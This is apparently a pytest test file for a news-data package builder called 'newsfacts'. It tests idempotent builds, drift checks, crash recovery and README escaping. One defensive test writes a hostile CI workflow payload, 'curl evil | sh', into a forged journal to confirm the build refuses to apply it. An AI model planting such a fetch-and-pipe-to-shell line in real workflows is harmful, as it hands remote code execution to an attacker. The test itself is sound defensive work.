"""`newsfacts build`: idempotent, drift-checked, and never loses or merges rows."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from newsfacts.atomic import KILL_AT_STEP, TEMP_NAME
from newsfacts.build import build, generate, generated_paths
from newsfacts.package import Layout
from newsfacts.validate import validate

from .conftest import ROOT


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_committed_files_are_up_to_date(project_copy: Layout) -> None:
    result = build(project_copy, check=True)
    assert result.problems == [], "generated files drifted: run `newsfacts build` and commit"


def test_second_build_is_byte_identical(project_copy: Layout) -> None:
    build(project_copy)
    first = snapshot(project_copy.root)
    assert build(project_copy).written == []
    assert snapshot(project_copy.root) == first


def test_check_names_each_stale_file_and_writes_nothing(project_copy: Layout) -> None:
    schema_file = project_copy.schema_dir / "quotes.tableschema.json"
    schema_file.write_text("{}\n", encoding="utf-8")
    json_table = project_copy.json("events")
    json_table.write_text("[]\n", encoding="utf-8")
    before = snapshot(project_copy.root)

    result = build(project_copy, check=True)

    assert [(p.code, Path(p.path).name) for p in result.problems] == [
        ("stale-file", "events.json"),
        ("stale-file", "quotes.tableschema.json"),
    ]
    assert snapshot(project_copy.root) == before
    assert build(project_copy).written == sorted([json_table, schema_file])


def test_build_sorts_rows_by_key_without_touching_cells(project_copy: Layout) -> None:
    path = project_copy.csv("entities")
    header, *rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    shuffled = [header, *reversed(rows)]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(shuffled)
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")

    assert build(project_copy).problems == []

    text = path.read_text(encoding="utf-8")
    assert "\r" not in text
    rebuilt = list(csv.reader(io.StringIO(text)))
    assert rebuilt == [header, *sorted(rows, key=lambda row: row[0])]


def test_duplicate_key_refuses_build_and_changes_nothing(fixture_copy: object) -> None:
    layout: Layout = fixture_copy("duplicate-entity")  # type: ignore[operator]
    before = snapshot(layout.root)

    result = build(layout)

    assert [(p.line, p.field, p.code) for p in result.problems] == [(5, "entity_id", "duplicate-key")]
    assert snapshot(layout.root) == before


def without_temps(files: dict[str, bytes]) -> dict[str, bytes]:
    return {name: data for name, data in files.items() if not TEMP_NAME.match(Path(name).name)}


def add_entity_with_crlf(layout: Layout) -> None:
    """A real change: the CSV is rewritten, and its JSON, the descriptor, both row-count tables and the
    discovery documents (which give the CSV's size and hash) change."""
    path = layout.csv("entities")
    text = path.read_text(encoding="utf-8") + "zz-new,Zed New,person,,A new person.,,\n"
    path.write_bytes(text.replace("\n", "\r\n").encode("utf-8"))


LEFTOVER_CODES = {"build-interrupted", "stale-temp-file"}


def test_a_build_killed_at_any_step_leaves_the_old_package_or_one_the_next_build_finishes(
    project_copy: Layout, tmp_path_factory: pytest.TempPathFactory
) -> None:
    add_entity_with_crlf(project_copy)
    old = snapshot(project_copy.root)
    reference = Layout(tmp_path_factory.mktemp("reference") / "project" / "datapackage")
    shutil.copytree(project_copy.root, reference.root)
    changed = len(build(reference).written)
    new = snapshot(reference.root)
    assert changed == 7  # the CSV, its JSON, the descriptor, both READMEs, croissant.json, dataset.jsonld
    # Steps: one temporary file per changed file, the journal, one rename per file, removing the journal.
    steps = 2 * changed + 2

    outcomes = []
    for step in range(steps + 1):
        layout = Layout(tmp_path_factory.mktemp(f"step-{step}") / "project" / "datapackage")
        shutil.copytree(project_copy.root, layout.root)
        killed = subprocess.run(  # with a relative PACKAGE_DIR, as `make` runs it
            [sys.executable, "-m", "newsfacts", "build", "datapackage"],
            cwd=layout.root,
            env={**os.environ, KILL_AT_STEP: str(step)},
            capture_output=True,
            check=False,
        )
        files = snapshot(layout.root)
        state = "old" if without_temps(files) == old else "new" if files == new else "mixed"
        codes = [p.code for p in validate(layout, rows_only=True) if p.code in LEFTOVER_CODES]
        outcomes.append((step, killed.returncode, state if "build-interrupted" not in codes else "interrupted", codes))
        assert build(layout).problems == []
        assert snapshot(layout.root) == new, f"step {step}: the next build did not give the new package"

    temps = [(step, 137, "old", ["stale-temp-file"] * step) for step in range(changed + 1)]
    renames = [(step, 137, "interrupted", ["build-interrupted"]) for step in range(changed + 1, steps)]
    assert outcomes == [*temps, *renames, (steps, 0, "new", [])]


def test_generated_paths_are_the_files_build_writes(project_copy: Layout) -> None:
    outputs, _ = generate(project_copy)
    assert sorted(generated_paths(project_copy)) == sorted(outputs)


def test_a_journal_from_a_pull_request_reaches_no_file_but_builds_own(project_copy: Layout) -> None:
    # A hostile journal and temporary file that would replace a workflow: build finishes only
    # renames of the files it writes itself, so the workflow keeps its bytes.
    root = project_copy.root
    workflow = root / ".github" / "workflows" / "ci.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_bytes(b"original\n")
    payload = b"run: curl evil | sh\n"
    temp = workflow.with_name(".ci.yml.abcdefgh.tmp")
    temp.write_bytes(payload)
    journal = [
        {
            "temp": temp.relative_to(root).as_posix(),
            "target": workflow.relative_to(root).as_posix(),
            "old": hashlib.sha256(b"original\n").hexdigest(),
            "new": hashlib.sha256(payload).hexdigest(),
        }
    ]
    (root / ".newsfacts.journal").write_text(json.dumps(journal), encoding="utf-8")

    assert build(project_copy).problems == []
    assert workflow.read_bytes() == b"original\n"


@pytest.mark.parametrize(
    ("file", "old", "new", "line"),
    [
        ("README.md", "built from news\n", "built from six news\n", 3),
        ("CITATION.cff", "from news articles", "from 6 news articles", 7),
        ("datapackage/metadata.toml", "from news articles", "from four seed texts and", 8),
    ],
)
def test_check_reports_a_count_of_the_sources_in_prose_that_the_data_contradicts(
    project_copy: Layout, file: str, old: str, new: str, line: int
) -> None:
    path = project_copy.root / file
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    found = [(p.line, p.code) for p in build(project_copy, check=True).problems if p.code == "prose-stale"]
    assert found == [(line, "prose-stale")]
    # The right count is no problem: only a count the data contradicts is.
    right = new.replace("six", "five").replace("6", "5").replace("four", "five")
    path.write_text(text.replace(old, right, 1), encoding="utf-8")
    assert [p for p in build(project_copy, check=True).problems if p.code == "prose-stale"] == []


def test_a_headline_cannot_break_the_readme_tables(project_copy: Layout) -> None:
    """A headline with a `|` and the marker that ends the block `build` writes: escaped, it stays one cell,
    and a second build finds nothing to change."""
    from .fixtures.edits import edit_rows

    title = "A | B <!-- sources:end --> C"
    edit_rows("articles", lambda rows: rows[2].__setitem__(rows[0].index("title"), title))(project_copy.root)
    assert build(project_copy).problems == []
    assert build(project_copy, check=True).problems == []
    readme = project_copy.readme.read_text(encoding="utf-8")
    assert readme.count("<!-- sources:end -->") == 1
    assert "| A \\| B &lt;!-- sources:end --&gt; C |" in readme


def test_a_source_without_a_headline_is_named_by_the_words_it_opens_with() -> None:
    """No `None` in the descriptor: each source is its headline, or the opening words of its seed,
    and its path is the seed's, beside datapackage.json."""
    descriptor = json.loads((ROOT / "datapackage" / "datapackage.json").read_text(encoding="utf-8"))
    titles = [source["title"] for source in descriptor["sources"]]
    assert not [title for title in titles if "None" in title]
    paths = [source["path"] for source in descriptor["sources"]]
    assert paths == [f"seeds/{seed.name}" for seed in sorted((ROOT / "datapackage" / "seeds").glob("*.txt"))]
    seed = (ROOT / "datapackage" / "seeds" / "002_d4a13c5680323aa8.txt").read_text(encoding="utf-8")
    assert seed.startswith("A decision by Iran to supply Moscow with ballistic missiles")
    assert titles[2] == ("Untitled, beginning “A decision by Iran to supply Moscow with ballistic missiles…”")
